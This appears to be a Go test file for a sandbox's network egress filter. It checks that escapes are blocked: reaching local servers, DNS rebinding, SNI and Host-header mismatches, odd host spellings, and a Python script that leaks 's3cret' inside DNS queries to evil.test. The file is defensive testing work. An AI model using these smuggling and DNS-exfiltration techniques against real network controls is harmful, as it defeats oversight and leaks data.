package egress

import (
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/fencepost/fencepost/internal/lowlevel/hostmatch"
	"github.com/fencepost/fencepost/internal/test/testkit"
)

// The rows of the table of escapes that are about the network (N01 to N15) stand here by their
// numbers. What a row says is checked outside.

// victim is a server on the machine, which counts who comes.
func victim(t *testing.T, addr string) (port uint16, came *atomic.Int32) {
	t.Helper()
	l, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	came = &atomic.Int32{}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			came.Add(1)
			_, _ = io.WriteString(c, "victim\n")
			_ = c.Close()
		}
	}()
	return netip.MustParseAddrPort(l.Addr().String()).Port(), came
}

// TestOwnServersAreNotReached (N01): the machine's own servers are not reached by any name, but by
// localhost.
func TestOwnServersAreNotReached(t *testing.T) {
	outside(t)
	port, came := victim(t, "0.0.0.0:0")
	other, cameOther := victim(t, "127.0.0.1:0")
	s := newSandbox(t, []string{"good.test", fmt.Sprintf("own.test:%d", port)},
		func(c *Config) { c.Localhost = []uint16{other} })
	for _, host := range []string{"127.0.0.1", machineAddr, "0.0.0.0", "::1", "::ffff:127.0.0.1",
		worldAddr, "127.0.0.2", "own.test", "localhost"} {
		addr := net.JoinHostPort(host, fmt.Sprint(port))
		if c, err := s.dial("tcp", addr); err == nil {
			b, _ := io.ReadAll(c)
			_ = c.Close()
			if len(b) > 0 {
				t.Errorf("%s answers %q", addr, b)
			}
		}
		out := s.proxied(t, "CONNECT "+addr+" HTTP/1.1\r\n\r\n")
		if strings.Contains(out, "victim") || strings.HasPrefix(out, "HTTP/1.1 200") {
			t.Errorf("%s through the proxy: %s", addr, out)
		}
	}
	own := s.address(t, "own.test")
	if out := s.say(t, fmt.Sprintf("%s:%d", own, port), ""); strings.Contains(out, "victim") {
		t.Errorf("own.test answers %q", out)
	}
	s.tells(t, "own.test:"+fmt.Sprint(port)+" (leads to 10.77.0.1, an address of this")
	if n := came.Load(); n != 0 {
		t.Errorf("%d came", n)
	}
	for _, host := range []string{"127.0.0.1", "[::1]"} {
		if out := s.say(t, fmt.Sprintf("%s:%d", host, other), ""); out != "victim\n" {
			t.Errorf("localhost, %s: %q", host, out)
		}
	}
	if n := cameOther.Load(); n != 2 {
		t.Errorf("%d came to localhost", n)
	}
}

// TestOnlyTCPGetsOut (N02): nothing but TCP has a way out.
func TestOnlyTCPGetsOut(t *testing.T) {
	s := newSandbox(t, []string{"good.test"}, nil)
	for _, to := range []string{"udp 10.77.0.2:53", "udp 8.8.8.8:53", "udp 10.77.0.2:443",
		"tcp 10.77.0.2:53", "tcp 8.8.8.8:53", "tcp 10.77.0.2:443", "udp [2001:db8::1]:53"} {
		network, addr, _ := strings.Cut(to, " ")
		c, err := s.dial(network, addr)
		if err == nil {
			_, err = c.Write([]byte("x"))
			_ = c.Close()
		}
		if err == nil || !strings.Contains(err.Error(), "unreachable") {
			t.Errorf("%s: %v", to, err)
		}
	}
	if out, status := s.run(t, nil, "sh", "-c", "ip route; ip -6 route show default"); status == 0 &&
		strings.Contains(out, "default") {
		t.Errorf("a route: %s", out)
	}
	// QUIC to the address of an allowed name
	c, err := s.dial("udp", s.address(t, "good.test").String()+":443")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_, _ = c.Write([]byte("x"))
	_ = c.SetDeadline(time.Now().Add(time.Second))
	if _, err := c.Read(make([]byte, 1)); err == nil {
		t.Error("UDP is answered")
	}
	if heard, queries := s.world.what(); len(heard)+len(queries) > 0 {
		t.Errorf("outside: %q %q", heard, queries)
	}
}

// TestNameInsideConnectionIsAllowed (N05): the name within a connection is that of the connection,
// or is allowed.
func TestNameInsideConnectionIsAllowed(t *testing.T) {
	has(t, "curl")
	proxy := fmt.Sprintf("http://127.0.0.1:%d", httpPort)
	const good = "127.1.0.1" // the address of the first name, as below
	for _, r := range []struct {
		what string
		args []string
		told string // "" where nothing need be told
	}{
		{"another address", []string{"--resolve", "good.test:443:" + evilAddr, "https://good.test/"}, ""},
		{"name in TLS", []string{"--resolve", "evil.test:443:" + good, "https://evil.test/"},
			"evil.test:443 (TLS for it on a connection to good.test:443; " + notAllowed + "; flag: -n evil.test:443)"},
		{"name in TLS behind CONNECT", []string{"-x", proxy, "--connect-to", "evil.test:443:good.test:443",
			"https://evil.test/"}, "evil.test:443 (TLS for it on a connection to good.test:443"},
		{"field Host", []string{"-f", "-H", "Host: evil.test", "http://good.test/"},
			"evil.test:80 (a request for it on a connection to good.test:80"},
		{"field Host behind CONNECT", []string{"-f", "-p", "-x", proxy, "-H", "Host: evil.test",
			"http://good.test/"}, "evil.test:80 (a request for it"},
		{"field Host to a proxy", []string{"-f", "-x", proxy, "-H", "Host: evil.test", "http://good.test/"},
			`good.test:80 (a request for it names "evil.test" in the field Host)`},
		{"absolute target", []string{"-f", "--request-target", "http://evil.test/", "http://good.test/"},
			"evil.test:80 (a request for it on a connection to good.test:80"},
		{"target with a user", []string{"-f", "-x", proxy, "--request-target",
			"http://good.test@evil.test/", "http://good.test/"}, `"good.test@evil.test:80" (it is not read`},
	} {
		t.Run(r.what, func(t *testing.T) {
			s := newSandbox(t, []string{"good.test", "*.good.test"}, nil)
			if a := s.address(t, "good.test").String(); a != good {
				t.Fatal(a)
			}
			out, status := s.run(t, nil, append([]string{"curl", "-sS", "-m5"}, r.args...)...)
			if status == 0 || strings.Contains(out, "hello") {
				t.Errorf("it is answered: %s", out)
			}
			s.tells(t, r.told)
			if r.told == "" && s.stderr.String() != "" {
				t.Errorf("told: %s", s.stderr)
			}
			heard, queries := s.world.what()
			for _, what := range append(heard, queries...) {
				if strings.Contains(what, "evil") || strings.HasPrefix(what, "good 80") {
					t.Errorf("outside: %s", what)
				}
			}
		})
	}
	// another name that is allowed is no harm
	s := newSandbox(t, []string{"good.test", "*.good.test"}, nil)
	out, _ := s.run(t, nil, "curl", "-sS", "--resolve", "www.good.test:443:"+good, "https://www.good.test/")
	want(t, out, "good says hello")
}

// TestForbiddenAddressesAreNotReached (N06): a name may lead to an address that is never reached.
func TestForbiddenAddressesAreNotReached(t *testing.T) {
	names := []string{"loop.test", "meta.test", "own.test", "mapped.test", "nat64.test", "6to4.test",
		"zero.test", "denied.test"}
	outside(t)
	var came []*atomic.Int32
	for _, addr := range []string{"127.0.0.1:443", machineAddr + ":443", "[::1]:443"} {
		_, n := victim(t, addr)
		came = append(came, n)
	}
	s := newSandbox(t, append(names, "two.test"), func(c *Config) {
		c.DenyResolved = []netip.Prefix{netip.MustParsePrefix("10.77.0.8/29")}
	})
	for _, name := range names {
		out := s.say(t, s.address(t, name).String()+":443", "x")
		if !strings.Contains(out, "reset") {
			t.Errorf("%s: %q", name, out)
		}
		s.tells(t, "blocked network "+name+":443 (leads to ")
		want(t, s.proxied(t, "CONNECT "+name+":443 HTTP/1.1\r\n\r\n"), "403 Forbidden")
	}
	for _, n := range came {
		if n.Load() > 0 {
			t.Error("a server of the machine was reached")
		}
	}
	s.world.mu.Lock()
	heard := strings.Join(s.world.heard, "\n")
	s.world.mu.Unlock()
	if heard != "" {
		t.Errorf("outside: %s", heard)
	}
	// of several addresses the one that may be reached is
	want(t, s.proxied(t, "CONNECT two.test:22 HTTP/1.1\r\n\r\n"), "SSH-2.0-standin")
}

// TestRebindingNamesAreNotReached (N07): a name may lead elsewhere each time it is looked up.
func TestRebindingNamesAreNotReached(t *testing.T) {
	outside(t)
	_, came := victim(t, "127.0.0.1:80")
	s := newSandbox(t, []string{"rebind.test"}, nil)
	addr := s.address(t, "rebind.test").String() + ":80"
	reached := 0
	for range 12 {
		out := s.say(t, addr, "GET / HTTP/1.1\r\nHost: rebind.test\r\nConnection: close\r\n\r\n")
		if strings.Contains(out, "good says hello") {
			reached++
		}
	}
	if reached == 0 {
		t.Error("the name is never reached")
	}
	if n := came.Load(); n != 0 {
		t.Errorf("the machine was reached %d times", n)
	}
}

// TestQueriesStayInsideAndAreBounded (N08): nothing of a query leaves, and a million of them are
// bounded.
func TestQueriesStayInsideAndAreBounded(t *testing.T) {
	s := newSandbox(t, []string{"good.test", "*.wild.test"}, func(c *Config) { c.Limits.Names = 1000 })
	if _, status := s.run(t, nil, "python3", "-c", flood); status != 0 {
		t.Errorf("status %d", status)
	}
	if out := s.say(t, "127.0.0.1:53", "\x00\x03abc"); out != "" {
		t.Errorf("over TCP: %q", out)
	}
	s.server.names.mu.Lock()
	allowed, refused := len(s.server.names.allowed), len(s.server.names.refused)
	s.server.names.mu.Unlock()
	if allowed > 1000 || refused > maxRefuse {
		t.Errorf("%d and %d names are remembered", allowed, refused)
	}
	if a := s.address(t, "good.test"); !isPool(a) {
		t.Errorf("good.test is %s", a)
	}
	s.stop()
	if n := strings.Count(s.stderr.String(), "\n"); n > maxTold+2 {
		t.Errorf("%d lines are told", n)
	}
	if strings.ContainsAny(s.stderr.String(), "\x1b\x00") {
		t.Error("what was asked is told as it is")
	}
	if heard, queries := s.world.what(); len(heard)+len(queries) > 0 {
		t.Errorf("outside: %q %q", heard, queries)
	}
}

// flood asks for data in names, kinds in which data travels, for names of all lengths, and sends
// what is no query.
const flood = `
import os, random, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("127.0.0.1", 53)); s.settimeout(5)
def ask(labels, kind, flags=0x0100):
    q = struct.pack(">HHHHHH", 7, flags, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l for l in labels) + b"\0" + struct.pack(">HH", kind, 1)
    s.send(q); return s.recv(4096)
for kind in (16, 15, 33, 10, 255, 99, 65535):
    a = ask([b"s3cret", b"evil", b"test"], kind)
    assert a[3] & 15 == 5 and a[7] == 0, a
assert ask([b"x" * 63] * 3 + [b"y" * 61], 1)[7] == 1
assert ask([b"\x1b[31m\0", b"test"], 1)[3] & 15 == 3
for i in range(20000):
    ask([b"n%d" % i, b"wild" if i % 2 else b"evil", b"test"], 1)
for i in range(2000):
    s.send(os.urandom(random.randrange(1, 600)))
s.send(struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\xc0\x0c\0\x01\0\x01")
`

// TestSpellingsOfHosts (N09): one host has many spellings. What is no host is refused.
func TestSpellingsOfHosts(t *testing.T) {
	for asked, reached := range map[string]bool{
		"good.test:22": true, "GOOD.test.:22": true, "other.test:22": false, "evil.test#.good.test:22": false,
		"good.test%00.evil.test:22": false, "good.test@evil.test:22": false, "good.test.evil.test:22": false,
		"[fe80::1%25m0]:22": false, "0x0a4d0002:22": true, "172818434:22": true, "10.77.2:22": true,
		"10.77.0.3:22": false, "[::ffff:10.77.0.2]:22": true, "0xa4d0003:22": false, "good.test:022": false,
		"good.test :22": false, "evil.test\t:22": false, "xn--good.test:22": false, ":22": false,
	} {
		t.Run(asked, func(t *testing.T) {
			s := newSandbox(t, []string{"good.test", worldAddr}, nil)
			out := s.proxied(t, "CONNECT "+asked+" HTTP/1.1\r\n\r\n")
			if got := strings.Contains(out, "SSH-2.0-standin"); got != reached {
				t.Errorf("%q, told: %s", out, s.stderr)
			}
			if !reached && !strings.HasPrefix(out, "HTTP/1.1 40") {
				t.Errorf("%q", out)
			}
			s.nothingOf(t, "evil")
		})
	}
}

// TestRawAddress: an address that the config names is reached as it is, from programs that know of
// no proxy; another one is not.
func TestRawAddress(t *testing.T) {
	s := newSandbox(t, []string{worldAddr, worldAddr + ":6379"}, nil)
	want(t, s.say(t, worldAddr+":22", ""), "SSH-2.0-standin")
	want(t, s.say(t, worldAddr+":6379", "ping"), "ping")
	want(t, s.say(t, worldAddr+":25", ""), "refused")
	want(t, s.say(t, evilAddr+":22", ""), "unreachable")
}

// TestPlainRequestsAreRefused (N10): a proxy is asked plainly for a host that is not allowed.
func TestPlainRequestsAreRefused(t *testing.T) {
	has(t, "curl")
	s := newSandbox(t, []string{"good.test"}, nil)
	proxy := fmt.Sprintf("http://127.0.0.1:%d", httpPort)
	out, _ := s.run(t, nil, "curl", "-sS", "-i", "-x", proxy, "http://evil.test/secret")
	want(t, out, "HTTP/1.1 403 Forbidden")
	want(t, out, "fencepost: sandbox blocked network evil.test:80 (not in sandbox.network.allow; "+
		"flag: -n evil.test:80)")
	out, _ = s.run(t, nil, "curl", "-sS", "-x", proxy, "-d", "body", "http://good.test/x")
	want(t, out, "good says hellobody")
	out, _ = s.run(t, nil, "curl", "-sS", "-x", proxy, "https://good.test/x")
	want(t, out, "good says hello")
	socks := fmt.Sprintf("127.0.0.1:%d", socksPort)
	for _, option := range []string{"--socks5", "--socks5-hostname"} {
		out, _ = s.run(t, nil, "curl", "-sS", option, socks, "https://good.test/x")
		want(t, out, "good says hello")
		out, status := s.run(t, nil, "curl", "-sS", option, socks, "https://evil.test/x")
		if status == 0 {
			t.Errorf("%s: %s", option, out)
		}
	}
	// A second request on the connection is not for the first one's server to choose.
	out = s.proxied(t, "GET http://good.test/1 HTTP/1.1\r\nHost: good.test\r\n\r\n"+
		"GET http://evil.test/2 HTTP/1.1\r\nHost: evil.test\r\n\r\n")
	if strings.Count(out, "hello") > 1 {
		t.Error(out)
	}
	s.nothingOf(t, "evil")
}

// TestPortsOfAllowedHosts (N12): entries without a port are for the ports 22, 80 and 443.
func TestPortsOfAllowedHosts(t *testing.T) {
	for _, r := range []struct {
		entry, target, told string
	}{
		{"good.test", "good.test:22", ""},
		{"good.test", "good.test:25", `without a port, which is 22, 80 and 443; add "good.test:25"`},
		{"good.test", "good.test:6379", `add "good.test:6379"`},
		{"good.test:25", "good.test:25", ""},
		{"good.test:25", "good.test:22", `sandbox.network.allow has good.test:25; add "good.test:22"`},
		{"*.good.test:6379", "www.good.test:6379", ""},
	} {
		s := newSandbox(t, []string{r.entry}, nil)
		out := s.proxied(t, "CONNECT "+r.target+" HTTP/1.1\r\n\r\n")
		if got := strings.HasPrefix(out, "HTTP/1.1 200"); got != (r.told == "") {
			t.Errorf("%s, %s: %s", r.entry, r.target, out)
		}
		s.tells(t, r.told)
		s.stop()
	}
}

// TestDeny: what is denied is refused although it is allowed, with the reason of the config.
func TestDeny(t *testing.T) {
	s := newSandbox(t, []string{"*.good.test", "good.test"}, func(c *Config) {
		c.Deny, _ = hostmatch.ParseList([]string{"www.good.test", "*:25"}, hostmatch.Deny)
		c.Reasons = map[string]string{"www.good.test": "use the internal\x1b[31m service\nplease"}
	})
	out := s.proxied(t, "CONNECT www.good.test:443 HTTP/1.1\r\n\r\n")
	want(t, out, "403 Forbidden")
	want(t, s.stderr.String(), "fencepost: sandbox blocked network www.good.test:443 (denied by "+
		"sandbox.network.deny: use the internal [31m service please)\n")
	for range 3 {
		s.proxied(t, "CONNECT www.good.test:443 HTTP/1.1\r\n\r\n")
	}
	if n := strings.Count(s.stderr.String(), "www.good.test"); n != 1 {
		t.Errorf("told %d times", n)
	}
	all := s.server.Refused()
	if len(all) != 1 || all[0].Host != "www.good.test" || all[0].Port != 443 || all[0].Count != 4 ||
		time.Since(all[0].First) > time.Minute {
		t.Errorf("refused: %+v", all)
	}
}

// TestLookedUpOnly: a name that is looked up and no more is told at the end.
func TestLookedUpOnly(t *testing.T) {
	s := newSandbox(t, nil, nil)
	s.address(t, "evil.test")
	if s.stderr.String() != "" {
		t.Errorf("told: %s", s.stderr)
	}
	s.stop()
	s.tells(t, "fencepost: sandbox blocked network evil.test (not in sandbox.network.")
}

// files are the open files of this process.
func files(t *testing.T) int {
	t.Helper()
	list, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		t.Fatal(err)
	}
	return len(list)
}

// eventually waits until numbers are what they were.
func eventually(t *testing.T, what string, before int, now func() int) {
	t.Helper()
	if !testkit.Eventually(func() bool { return now() <= before }) {
		b := make([]byte, 1<<16)
		t.Fatalf("%d %s before, %d after\n%s", before, what, now(), b[:runtime.Stack(b, true)])
	}
}

// TestNeededSockets: which sockets there are.
func TestNeededSockets(t *testing.T) {
	for _, r := range []struct {
		allow            []string
		localhost        []uint16
		publish          []uint16
		has, hasNot, err string
	}{
		{nil, nil, nil, "bind udp 127.0.0.1:53 listen tcp 127.0.0.1:53 listen tcp 127.0.0.1:3128 " +
			"listen tcp 127.0.0.1:1080 listen tcp 0.0.0.0:443", "socket", ""},
		{[]string{"a.test:5432", "*.b.test:8443", "c.test:25"}, nil, nil, "listen tcp 127.1.0.1:5432 " +
			"listen tcp 0.0.0.0:8443 listen tcp 0.0.0.0:25", "0.0.0.0:5432", ""},
		{[]string{"a.test:8443", "*.b.test:8443", "d.test:8443"}, nil, nil, "listen tcp 0.0.0.0:8443",
			"127.1.0.1:8443", ""},
		{nil, []uint16{5432, 443, 3128}, nil, "listen tcp 127.0.0.1:5432 listen tcp 127.0.0.1:3128 " +
			"listen tcp 127.0.0.1:3129", "127.0.0.1:443", ""},
		{nil, nil, []uint16{3000}, "socket tcp4", "3000", ""},
		{[]string{"10.77.0.2:5432", "[2001:db8::1]"}, nil, nil, "listen tcp 10.77.0.2:5432", "0.0.0.0:5432",
			""},
		{nil, nil, []uint16{80}, "", "", "publish names the port 80"},
		{nil, nil, []uint16{3000, 3000}, "", "", "publish names the port 3000"},
		{nil, []uint16{3000}, []uint16{3000}, "", "", "port 3000 is under localhost and publish"},
		{nil, []uint16{0}, nil, "", "", "localhost names the port 0"},
		{nil, []uint16{53}, nil, "", "", "localhost names the port 53"},
		{[]string{"*.b.test:3000"}, nil, []uint16{3000}, "", "", "listens for *.b.test:3000"},
	} {
		allow, err := hostmatch.ParseList(r.allow, hostmatch.Allow)
		if err != nil {
			t.Fatal(err)
		}
		server, err := New(Config{Reach: Reach{Allow: allow, Localhost: r.localhost, Publish: r.publish}})
		if err != nil || r.err != "" {
			if err == nil || r.err == "" || !strings.Contains(err.Error(), r.err) {
				t.Errorf("%+v: %v", r, err)
			}
			continue
		}
		var all []string
		seen := map[string]bool{}
		for _, s := range server.Needs().Sockets {
			if s.Bound() && seen[s.String()] {
				t.Errorf("%+v: %s twice", r, s)
			}
			seen[s.String()] = true
			all = append(all, s.String())
		}
		list := strings.Join(all, " ")
		for line := range strings.SplitSeq(strings.ReplaceAll(r.has, " listen", "\nlisten"), "\n") {
			want(t, list, line)
		}
		if r.hasNot != "" && strings.Contains(list, r.hasNot) {
			t.Errorf("%q is in %s", r.hasNot, list)
		}
	}
	var many []string
	for i := range 300 {
		many = append(many, fmt.Sprintf("h%d.test:%d", i, 2000+i))
	}
	allow, _ := hostmatch.ParseList(many, hostmatch.Allow)
	if _, err := New(Config{Reach: Reach{Allow: allow}}); err == nil || !strings.Contains(err.Error(), "fewer ports") {
		t.Errorf("%v", err)
	}
}
